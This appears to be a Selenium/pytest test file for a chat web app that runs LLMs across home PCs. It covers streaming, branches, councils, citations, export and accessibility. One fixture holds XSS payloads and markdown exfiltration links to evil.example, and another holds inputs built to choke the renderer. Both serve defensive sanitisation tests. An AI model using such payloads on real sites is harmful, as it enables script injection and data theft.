"""The chat page in a real Chromium, on a LAN whose engines say each question back, word by word."""

from __future__ import annotations

import json
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import cast

import pytest
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.support.select import Select

from tests.support.accessible import violations
from tests.support.browser import PHONE, Browser
from tests.support.played_lan import PlayedLan, gaming_pc, played_lan
from tests.whole.support import http

FIELD = ".composer textarea"
HOSTILE = """<script>window.pwned = 1</script> <img src="//evil.example/a" onerror="window.pwned = 2">

<iframe srcdoc="<script>parent.pwned = 3</script>"></iframe> <svg onload="window.pwned = 4"></svg>

[js](javascript:window.pwned=5) [data](data:text/html,<script>window.pwned=6</script>) [own](/keys) [good](https://good.example/a)

![stolen](https://evil.example/collect?q=secret) <javascript:window.pwned=7> [https://bank.example](https://evil.example/login)

<style>body { display: none }</style> <a href="javascript:window.pwned=8">x</a> &lt;b&gt;

```js
window.pwned = 9; // never closed
"""

RICH = """<think>Let me *see*.</think>

## Sorting

The first is **stable** [1], see [the docs](https://docs.python.org/) or `sorted`.

```python
print(sorted([2, 1]))
```

| way | time |
|-----|-----:|
| merge | O(n log n) |

> A list, in order:

1. one
   - half
2. two
"""


@pytest.fixture(scope="module")
def lan(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PlayedLan]:
    pcs = (gaming_pc("attic", "llama3.1:8b"), gaming_pc("cellar", "llama3.2:3b"))
    with played_lan(tmp_path_factory.mktemp("chat"), *pcs) as lan:
        yield lan


@pytest.fixture
def chat(browser: Browser, lan: PlayedLan) -> Browser:
    """An empty chat, with somebody there to answer."""
    browser.open(lan.url, "chat")
    browser.script("localStorage.clear()")
    browser.until_text(".model-choice option:checked", "llama3.1:8b")
    return browser


def ask(browser: Browser, words: str) -> None:
    browser.one(FIELD).send_keys(words, Keys.ENTER)


def answered(browser: Browser, words: str) -> None:
    """An answer with these words has come to its end."""
    browser.until_text(".message.theirs", words)
    browser.until(lambda: browser.all(".message.theirs:last-child .facts"), "the figures of the answer")


def imported(lan: PlayedLan, answer: str, **facts: object) -> str:
    """A chat with one answer, as a file of another Chorus would bring it; its id."""
    told: dict[str, object] = {"model": "of-old", "finish_reason": "stop", **facts}
    messages = [
        {"id": "q", "parent_id": None, "role": "user", "content": "The question"},
        {"id": "a", "parent_id": "q", "role": "assistant", "content": answer, "answer": told},
    ]
    body = {"chorus_chat": 1, "title": "Brought along", "messages": messages, "head": "a"}
    return str(http(f"{lan.url}/chat/sessions/import", body).json()["id"])


def test_an_answer_comes_word_by_word_and_is_stopped_with_what_it_said(chat: Browser, lan: PlayedLan) -> None:
    lan.hold_answers("attic", hold=True)
    try:
        ask(chat, "one two three")
        chat.one(".message.theirs.waiting")
        lan.hold_answers("attic", hold=False)
        chat.until_text(".message.theirs", "attic answers: one two three")
    finally:
        lan.hold_answers("attic", hold=False)
    answered(chat, "one two three")
    assert "llama3.1:8b on attic" in chat.text(".theirs .by")
    lan.hold_answers("attic", hold=True)
    try:
        ask(chat, "never ending")
        chat.one(".message.theirs.waiting")
        chat.click(".composer button[aria-label=Stop]")
        chat.until_text(".notes", "Stopped here.")
        chat.one(".composer button[aria-label=Send]")
    finally:
        lan.hold_answers("attic", hold=False)


def test_what_a_model_writes_never_becomes_markup(browser: Browser, lan: PlayedLan) -> None:
    browser.open(lan.url, f"chat?id={imported(lan, HOSTILE)}")
    browser.until_text(".theirs", "window.pwned = 9")
    assert browser.script("return window.pwned ?? null") is None
    foreign = ".talk :is(script, img, iframe, style, object, embed, form form)"
    assert browser.all(foreign) == []
    links = cast("list[str]", browser.script("return [...document.querySelectorAll('.prose a')].map(a => a.href)"))
    assert links == ["https://good.example/a", "https://evil.example/collect?q=secret", "https://evil.example/login"]
    assert all("noopener" in (link.get_attribute("rel") or "") for link in browser.all(".prose a"))
    shown = browser.text(".theirs")
    assert "<script>window.pwned = 1</script>" in shown
    assert "Picture: stolen (evil.example)" in shown
    assert "https://bank.example (evil.example)" in shown
    loaded = cast("list[str]", browser.script("return performance.getEntriesByType('resource').map(e => e.name)"))
    assert [name for name in loaded if not name.startswith(lan.url)] == []
    assert browser.sideways_px() == 0


CHOKING = {
    "quotes": ">" * 20_000,
    "brackets": "[" * 20_000,
    "emphasis": "***a " * 4_000 + "b*** " * 4_000,
    "table": "|a" * 100 + "|\n" + "|-" * 100 + "|\n" + ("|b" * 100 + "|\n") * 300,
    "lists": "- " * 10_000,
    "long": "x" * 250_000,
    "bidi": "# " + "\u202e" * 500,
}


def test_texts_made_to_choke_the_page_do_not(browser: Browser, lan: PlayedLan) -> None:
    browser.open(lan.url, "chat")
    browser.one(FIELD)
    show = """
        const [text] = arguments;
        const base = document.querySelector('link[href$="shell.css"]').href.replace("style/shell.css", "");
        const {Prose} = await import(base + "words/prose.js");
        const prose = new Prose();
        document.querySelector(".messages").replaceChildren(prose.element);
        const began = performance.now();
        prose.show(text);
        prose.element.getBoundingClientRect();
        return performance.now() - began;
    """
    for name, text in CHOKING.items():
        assert cast("float", browser.script(show, text)) < 5000, name
        assert browser.sideways_px() == 0, name
        assert browser.all(".prose td:nth-child(101), .prose tr:nth-child(1000)") == [], name


def test_thoughts_are_folded_and_code_can_be_copied(browser: Browser, lan: PlayedLan) -> None:
    text = "<think>First I count.</think>\n\nIt is **four**.\n\n```python\nprint(2 + 2)\n```\n"
    browser.open(lan.url, f"chat?id={imported(lan, text)}")
    browser.until_text(".theirs strong", "four")
    thought = browser.one("details.thought")
    assert thought.get_attribute("open") is None
    assert "First I count." not in browser.text(".theirs")
    browser.click("details.thought summary")
    browser.until_text("details.thought", "First I count.")
    assert browser.text(".code-block figcaption") == "python"
    browser.script(
        "navigator.clipboard.writeText = async (text) => { window.copied = text; }; document.execCommand = () => true"
    )
    browser.click(".code-block button")
    browser.until_text(".code-block figcaption", "python")
    browser.until(lambda: browser.script("return window.copied"), "the code in the clipboard")
    assert browser.script("return window.copied") == "print(2 + 2)"


def test_passages_are_numbered_and_a_citation_leads_to_its_own(browser: Browser, lan: PlayedLan) -> None:
    sources = [
        {"number": number, "document_id": "d", "chunk_id": number, "title": f"Book {number}", "text": f"Text {number}"}
        for number in (1, 2)
    ]
    session = imported(
        lan, "It says so [2]. Nobody knows [7]. `[1]`", sources=[sources[0], {**sources[1], "cited": True}]
    )
    browser.open(lan.url, f"chat?id={session}")
    browser.until_text(".sources summary", "1 of 2 passages cited")
    assert [mark.text for mark in browser.all(".cite")] == ["2"]
    assert "[7]" in browser.text(".theirs .prose")
    browser.click(".cite")
    browser.until_text(".sources li", "Text 1")
    assert "Text 2" in browser.focused().text


def test_a_council_is_asked_and_shows_who_answered(chat: Browser, lan: PlayedLan) -> None:
    chat.until_text(".model-choice optgroup:last-of-type", "council/all")
    Select(chat.one(".model-choice")).select_by_value("council/all")
    ask(chat, "who is there")
    answered(chat, "who is there")
    chat.until_text(".member", "agrees")
    assert "vote" in chat.text(".council summary")


def test_the_members_of_a_council_stand_side_by_side_with_their_disagreement(browser: Browser, lan: PlayedLan) -> None:
    members = [
        {"node": "attic", "model": "one", "text": "It is **Rome**.", "seconds": 1.5, "tokens": 4, "agrees": True},
        {"node": "cellar", "model": "two", "text": "It is Milan.", "seconds": 0.5, "tokens": 4, "agrees": False},
        {"node": "garage", "model": "two", "error": "no answer within 20 s"},
    ]
    council = {"strategy": "vote", "disagreement": 0.25, "members": members}
    browser.open(lan.url, f"chat?id={imported(lan, 'It is Rome.', council=council)}")
    browser.until_text(".council summary", "25 % disagreement")
    cards = browser.all(".member")
    assert [card.text.split()[0] for card in cards] == ["attic", "cellar", "garage"]
    for card, words in zip(cards, ("agrees", "differs", "within 20 s"), strict=True):
        assert words in card.text
    look = "return new Set([...document.querySelectorAll('.member')].map(m => m.getBoundingClientRect().top)).size"
    assert browser.script(look) == 1
    browser.screenshot("chat-council")


def test_edits_and_new_answers_make_branches_that_can_be_switched(chat: Browser, lan: PlayedLan) -> None:
    ask(chat, "first words")
    answered(chat, "first words")
    chat.click(".mine button.edit")
    field = chat.one(".mine textarea")
    field.clear()
    field.send_keys("other words", Keys.ENTER)
    answered(chat, "attic answers: other words")
    chat.until_text(".mine .versions", "2 / 2")
    chat.click(".mine .versions button[aria-label='Version before']")
    chat.until_text(".theirs", "attic answers: first words")
    chat.until_text(".mine .versions", "1 / 2")
    chat.click(".theirs button[aria-label='Answer again']")
    chat.until_text(".theirs .versions", "2 / 2")


def test_two_tabs_of_a_chat_stay_in_step(chat: Browser, lan: PlayedLan) -> None:
    ask(chat, "begin here")
    answered(chat, "begin here")
    first, address = chat.driver.current_window_handle, chat.driver.current_url
    chat.driver.switch_to.new_window("tab")
    try:
        chat.driver.get(address)
        chat.until_text(".theirs", "attic answers: begin here")
        second = chat.driver.current_window_handle
        lan.hold_answers("attic", hold=True)
        chat.driver.switch_to.window(first)
        ask(chat, "and now both")
        chat.one(".theirs.waiting")
        chat.driver.switch_to.window(second)
        chat.until_text(".mine", "and now both")
        chat.one(".composer button[aria-label=Stop]")
        lan.hold_answers("attic", hold=False)
        answered(chat, "attic answers: and now both")
        chat.click(".menu-box > button")
        chat.click("[role=menuitem]:nth-child(2)")
        chat.one("dialog input").send_keys(Keys.CONTROL, "a")
        chat.one("dialog input").send_keys("Renamed elsewhere", Keys.ENTER)
        chat.driver.switch_to.window(first)
        chat.until_text(".talk-head h1", "Renamed elsewhere")
        chat.until_text(".sessions a[aria-current]", "Renamed elsewhere")
        answered(chat, "attic answers: and now both")
    finally:
        lan.hold_answers("attic", hold=False)
        for handle in chat.driver.window_handles:
            if handle != first:
                chat.driver.switch_to.window(handle)
                chat.driver.close()
        chat.driver.switch_to.window(first)


def test_a_chat_goes_on_where_it_was_after_its_connection_was_cut(chat: Browser, lan: PlayedLan) -> None:
    lan.hold_answers("attic", hold=True)
    try:
        ask(chat, "hold on please")
        chat.one(".theirs.waiting")
        chat.script(
            """
            const base = document.querySelector('link[href$="style/shell.css"]').href.replace("style/shell.css", "");
            const socket = (await import(base + "shell/live.js")).liveSocket();
            window.cuts = 0;
            socket.on("disconnect", () => { window.cuts += 1; });
            socket.io.engine.close();
            """
        )
        chat.until(lambda: chat.script("return window.cuts"), "the connection is cut")
    finally:
        lan.hold_answers("attic", hold=False)
    answered(chat, "attic answers: hold on please")
    assert chat.text(".theirs .prose") == "attic answers: hold on please"
    assert len(chat.all(".message")) == 2


def test_an_answer_goes_on_while_another_chat_is_looked_at(chat: Browser, lan: PlayedLan) -> None:
    lan.hold_answers("attic", hold=True)
    try:
        ask(chat, "the first of two")
        chat.one(".theirs.waiting")
        chat.click(".chat-list .wide")
        chat.one(".welcome:not([hidden])")
        ask(chat, "the second of two")
        chat.one(".theirs.waiting")
    finally:
        lan.hold_answers("attic", hold=False)
    answered(chat, "attic answers: the second of two")
    assert len(chat.all(".message")) == 2
    assert chat.one(FIELD).get_attribute("value") == ""
    chat.until_text(".sessions a", "the first of two").click()
    answered(chat, "attic answers: the first of two")
    assert len(chat.all(".message")) == 2


def test_a_long_answer_is_followed_until_one_scrolls_back(chat: Browser, lan: PlayedLan) -> None:
    at_end = (
        "const s = document.querySelector('.talk-scroll'); return s.scrollHeight - s.scrollTop - s.clientHeight < 5"
    )
    chat.script("arguments[0].value = 'many words '.repeat(900)", chat.one(FIELD))
    ask(chat, "to read")
    answered(chat, "many words")
    assert chat.script("const s = document.querySelector('.talk-scroll'); return s.scrollHeight > 2 * s.clientHeight")
    chat.until(lambda: chat.script(at_end), "the end is in sight")
    chat.script("document.querySelector('.talk-scroll').scrollTop = 0")
    chat.one(".newest:not([hidden])")
    session = chat.driver.current_url.partition("id=")[2]
    said = http(f"{lan.url}/chat/sessions/{session}/messages", {"content": "from elsewhere"})
    assert said.status == 200
    chat.until(lambda: len(chat.all(".message")) == 4, "what another tab asked")
    assert chat.script("return document.querySelector('.talk-scroll').scrollTop") == 0
    chat.click(".newest")
    chat.until(lambda: chat.script(at_end), "the end is in sight again")


def test_settings_reach_the_model(chat: Browser, lan: PlayedLan) -> None:
    chat.click(".menu-box > button")
    chat.click("[role=menuitem]:nth-child(1)")
    chat.one("#instructions").send_keys("Be kind.")
    chat.one("#max_tokens").send_keys("3")
    chat.click("dialog button.primary")
    chat.until_gone("dialog")
    ask(chat, "one two three four")
    answered(chat, "attic answers: one")
    assert chat.text(".theirs .prose") == "attic answers: one"
    session = chat.driver.current_url.partition("id=")[2]
    assert http(f"{lan.url}/chat/sessions/{session}").json()["system"] == "Be kind."


def test_a_model_names_a_chat_when_it_is_asked_to(chat: Browser, lan: PlayedLan) -> None:
    ask(chat, "nameless words")
    answered(chat, "nameless words")
    chat.click(".menu-box > button")
    chat.click("[role=menuitem]:nth-child(3)")
    chat.until_text(".talk-head h1", "answers")


def test_a_chat_that_is_not_there_is_said_not_to_be(browser: Browser, lan: PlayedLan) -> None:
    browser.open(lan.url, "chat?id=000000000000000000000000")
    browser.until_text(".toast", "no such chat")
    browser.one(".welcome h2")
    assert "id=" not in browser.driver.current_url


def test_a_chat_that_another_deletes_is_left(chat: Browser, lan: PlayedLan) -> None:
    ask(chat, "soon gone")
    answered(chat, "soon gone")
    session = chat.driver.current_url.partition("id=")[2]
    gone = urllib.request.Request(f"{lan.url}/chat/sessions/{session}", method="DELETE")
    urllib.request.urlopen(gone, timeout=10).close()
    chat.until_text(".talk-head h1", "New chat")
    chat.until(lambda: not any(one.text == "soon gone" for one in chat.all(".sessions a")), "it left the list")


def test_search_finds_words_in_messages_and_opens_their_chat(chat: Browser, lan: PlayedLan) -> None:
    imported(lan, "The zebra is striped.")
    chat.one(".chat-list input").send_keys("zebra")
    chat.until_text(".sessions mark", "zebra")
    chat.click(".sessions a")
    chat.until_text(".theirs", "The zebra is striped.")


def test_the_keyboard_alone_is_enough(chat: Browser, lan: PlayedLan) -> None:
    chat.until(lambda: chat.focused().get_attribute("aria-label") == "Ask something", "the field has the focus")
    chat.keys("by keys alone", Keys.ENTER)
    answered(chat, "by keys alone")
    for _ in range(40):
        chat.keys(Keys.TAB)
        if chat.focused().get_attribute("aria-label") == "More about this chat":
            break
    chat.keys(Keys.ENTER)
    chat.until(lambda: chat.focused().text == "Settings", "the menu's first entry has the focus")
    chat.keys(Keys.ARROW_DOWN, Keys.ARROW_DOWN, Keys.ARROW_DOWN, Keys.ENTER)
    chat.until_text("dialog h2", "Export this chat")
    chat.keys(Keys.ESCAPE)
    chat.until_gone("dialog")


def test_it_fits_a_phone_in_both_themes(chat: Browser, lan: PlayedLan) -> None:
    chat.size(*PHONE)
    ask(chat, "does it fit " + "verylongwordwithoutanend" * 8)
    chat.click(".composer button[type=submit]")
    answered(chat, "does it fit")
    for theme in ("light", "dark"):
        chat.theme(theme)
        assert chat.sideways_px() == 0
        chat.screenshot(f"chat-phone-{theme}")
    chat.click(".to-list")
    chat.until_text(".sessions a", "does it fit")
    chat.click(".chat-list .wide")
    chat.one(".welcome h2")
    assert chat.sideways_px() == 0


def test_an_export_holds_the_chat(lan: PlayedLan, chat: Browser) -> None:
    ask(chat, "to be exported")
    answered(chat, "to be exported")
    chat.click(".menu-box > button")
    chat.click("[role=menuitem]:nth-child(4)")
    chat.until_text("dialog h2", "Export this chat")
    addresses = [str(link.get_attribute("href")) for link in chat.all("dialog a")]
    markdown, whole = (http(address) for address in addresses)
    assert "attic answers: to be exported" in markdown.body.decode()
    assert [one["role"] for one in json.loads(whole.body)["messages"]] == ["user", "assistant"]
    chat.keys(Keys.ESCAPE)


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_a_full_chat_has_no_serious_barrier(browser: Browser, lan: PlayedLan, theme: str) -> None:
    browser.theme(theme)
    source = {"number": 1, "document_id": "d", "chunk_id": 1, "title": "A book", "text": "A line of it", "cited": True}
    members = [
        {"node": "attic", "model": "one", "text": "Yes.", "seconds": 1.5, "tokens": 4, "agrees": True},
        {"node": "cellar", "model": "two", "text": "No.", "seconds": 0.5, "tokens": 4, "agrees": False},
        {"node": "garage", "model": "two", "error": "no answer within 20 s"},
    ]
    facts: dict[str, object] = {
        "sources": [source],
        "council": {"strategy": "vote", "disagreement": 0.25, "members": members},
        "finish_reason": "failed",
        "error": "The PC went away.",
        "seconds": 2.0,
        "completion_tokens": 9,
    }
    browser.open(lan.url, f"chat?id={imported(lan, RICH, **facts)}")
    browser.until_text(".council summary", "25 % disagreement")
    browser.click("details.thought summary")
    browser.click("details.sources summary")
    browser.until_text(".sources li", "A line of it")
    assert violations(browser) == []
    browser.screenshot(f"chat-full-{theme}")
    browser.click(".menu-box > button")
    browser.one(".menu-list:not([hidden])")
    assert violations(browser) == []


def test_an_exported_chat_is_imported_again(chat: Browser, lan: PlayedLan, tmp_path: Path) -> None:
    session = imported(lan, "Words to keep.")
    path = tmp_path / "chat.json"
    path.write_bytes(http(f"{lan.url}/chat/sessions/{session}/export?format=json").body)
    chat.one(".chat-list input[type=file]").send_keys(str(path))
    chat.until_text(".theirs", "Words to keep.")
    assert session not in chat.driver.current_url


def test_a_question_that_nobody_can_answer_is_given_back_and_leaves_no_chat(chat: Browser, lan: PlayedLan) -> None:
    script = """
        const choice = document.querySelector(".model-choice");
        choice.append(new Option("gone", "gone", true, true));
        choice.dispatchEvent(new Event("change"));
    """
    before = len(cast("list[object]", http(f"{lan.url}/chat/sessions?limit=1000").json()["sessions"]))
    chat.script(script)
    ask(chat, "is anybody there")
    chat.until_text(".trouble", "gone")
    assert chat.one(FIELD).get_attribute("value") == "is anybody there"
    chat.until(
        lambda: len(cast("list[object]", http(f"{lan.url}/chat/sessions?limit=1000").json()["sessions"])) == before,
        "the chat is gone again",
    )


def test_those_who_hear_the_page_are_told_of_an_answer_without_every_word(chat: Browser, lan: PlayedLan) -> None:
    chat.script(
        """
        window.said = [];
        const region = document.querySelector('.talk > [role=status]');
        new MutationObserver(() => window.said.push(region.textContent)).observe(region, {childList: true});
        """
    )
    ask(chat, " ".join(f"word{number}" for number in range(60)))
    answered(chat, "word59")
    said = cast("list[str]", chat.script("return window.said"))
    assert said[0].endswith("is answering.")
    assert said[-1].endswith("The answer is complete.")
    assert len(said) <= 3
